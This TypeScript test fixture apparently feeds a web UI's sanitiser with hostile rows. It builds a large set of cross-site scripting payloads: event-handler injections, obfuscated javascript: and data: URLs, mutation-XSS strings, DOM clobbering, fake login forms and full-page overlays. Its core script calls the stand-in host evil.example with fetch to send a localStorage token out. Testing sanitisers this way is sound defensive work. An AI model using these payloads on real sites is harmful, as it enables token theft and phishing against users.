import { recordsOf } from './made-data'

/** The host that an escaped payload would call. */
const elsewhere = 'evil.example'

/** The script of every payload: it marks the window, opens a dialog and calls another host. */
const run = `window.hasRun=(window.hasRun||0)+1;alert(1);fetch('https://${elsewhere}/x?'+localStorage.token)`
const code = run.replaceAll("'", '&#39;')

const tags = 'img svg video iframe object details a marquee input math custom-x p'.split(' ')
const events = 'onerror onload onfocus onmouseover ontoggle onanimationstart onbegin onclick'.split(' ')
const handlers = tags.flatMap((tag) =>
  events.map((event) => `<${tag} src=x href=x open autofocus tabindex=0 ${event}="${code}">a</${tag}>`),
)

const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  'java\tscript:',
  'java\nscript:',
  '\u0001javascript:',
  'javascript&colon;',
  '&#106;avascript:',
  'vbscript:',
  'view-source:javascript:',
  'data:text/html,<script>',
  'data:text/html;base64,PHNjcmlwdD4',
  'data:image/svg+xml,<svg onload=x>',
  `blob:https://${elsewhere}/`,
  'file:///etc/passwd#',
]
const carriers = [
  (to: string) => `<a target="_self" href="${to}"><b>a</b></a>`,
  (to: string) => `<iframe src="${to}"></iframe><object data="${to}"></object><embed src="${to}">`,
  (to: string) => `<form action="${to}"><button autofocus>a</button></form>`,
  (to: string) => `<svg><a xlink:href="${to}"><text y=9>a</text></a></svg>`,
]

/** One of each kind: what sanitising makes of single elements is in tests/ui/safe-html. */
const others = [
  `<script>${run}</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<svg><script>${run}</script></svg>`,
  `<template><template><img src=x onerror="${code}"></template></template>`,
  `<div><template shadowrootmode=open><script>${run}</script></template></div>`,
  '<iframe srcdoc="<script>parent.hasRun=1</script>"></iframe>',
  `<meta http-equiv=refresh content="0;url=https://${elsewhere}/">`,
  `<base href="https://${elsewhere}/"><img src="a.png"><a href="b">c</a>`,
  `<link rel=stylesheet href="https://${elsewhere}/x.css"><link rel=preconnect href="https://${elsewhere}/">`,
  `<form action="https://${elsewhere}/"><input name=password type=password><button>Se connecter</button></form>`,
  '<button popovertarget=chat popovertargetaction=show>a</button><div popover id=chat>b</div>',
  '<dialog open><h1>Session expirée</h1></dialog>',
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${code}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${code}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${code}>"></textarea>`,
  `<!--><img src=x onerror=${code}>-->`,
  `<svg><foreignObject><img src=x onerror=${code}></foreignObject></svg>`,
  `<svg><use href="https://${elsewhere}/x.svg#y"/><image href="https://${elsewhere}/x.png"/></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${code}"/><text y=9>a</text></a></svg>`,
  `</div></main></body></html><script>${run}</script>`,
  `{{constructor.constructor('${code}')()}} \${${run}}`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  '<img name=getElementById><img name=cookie><form name=body></form>',
  '<form id=root><input name=attributes><input name=nodeName></form>',
  '<p class="shell visually-hidden" id=contenu tabindex=-1 contenteditable accesskey=s>a</p>',
  `<video poster="https://${elsewhere}/p.png"><source src="https://${elsewhere}/v.mp4"></video>`,
  `<img srcset="https://${elsewhere}/s.png 2x" alt=a><table background="https://${elsewhere}/t.png"><tr><td>a</table>`,
  `<a href="https://${elsewhere}/" ping="https://${elsewhere}/ping" target=_top rel=opener download>a</a>`,
  `<a href="//${elsewhere}/">a</a><a href="/\\${elsewhere}/">a</a><a href="https://user:pass@${elsewhere}/">a</a>`,
  '<plaintext>a',
]

const overlays = [
  'position:fixed;inset:0;z-index:99999;background:red',
  'position:sticky;top:0;height:100vh',
  'transform:translate(-50vw,-90vh) scale(40)',
  'width:500vw',
  `background:url(https://${elsewhere}/b.png)`,
].map((css) => `<p style="${css}">a</p><style>main,body,p,a{${css}}</style><font style="${css}" color=red>a</font>`)

/** Addresses that must not become a link, a picture or a frame of another site. */
const addresses = [
  ...schemes.map((scheme) => scheme + run),
  `//${elsewhere}/`,
  `\\\\${elsewhere}\\`,
  `/\\${elsewhere}/`,
  `/\t/${elsewhere}/`,
  `https://user:pass@${elsewhere}/`,
  `https://cdec.cm@${elsewhere}/`,
  'https://',
  'http://[',
]

/** Video ids that must not become part of the host's address. */
const videoIds = ['"><script>', '../../evil', 'abcdefghij?', 'abcdefghij#', 'abcdefghij/', 'abcdefghij%', '@evil.examp']

const html = [
  ...handlers,
  ...schemes.flatMap((scheme) => carriers.map((carry) => carry(scheme + code))),
  ...others,
  ...overlays,
]
const day = '2026-05-11'
const addressOf = (n: number) => addresses[n % addresses.length] ?? ''

/** Returns rows by list with a record for each payload, in every field that is shown. */
export function hostileRows() {
  const everything = html.join('\n')
  const rows = recordsOf(html.length, (id) => {
    const [text = '', to] = [html[id - 1], addressOf(id)]
    return { title: text, text, photo: to, document: to, day, slug: `p${id}` }
  })
  const all = { id: 9001, slug: 'tout', titre: everything, description: everything }
  const gallery = { imagePrincipale: addressOf(0), galleryPhotos: addresses, actualite_id: 9001 }
  return {
    ...rows,
    presentations: [{ id: 1, description: everything }],
    interviews: [
      ...rows.interviews.map((row, n) => ({ ...row, source: addressOf(n) })),
      {
        ...all,
        date: day,
        source: addressOf(0),
        imagePrincipaleUrl: '',
        details: { introduction: everything, contenu: everything },
      },
    ],
    actualites: [{ ...all, image: addressOf(0), datePublication: day, details: gallery }, ...rows.actualites],
    slides: rows.slides.slice(0, 12).map((row, n) => ({ ...row, image: addressOf(n) })),
    stats: rows.stats.slice(0, 9),
    videos: videoIds.map((id, n) => ({ id: n + 1, title: html[n], youtube_id: id, date: day })),
  }
}
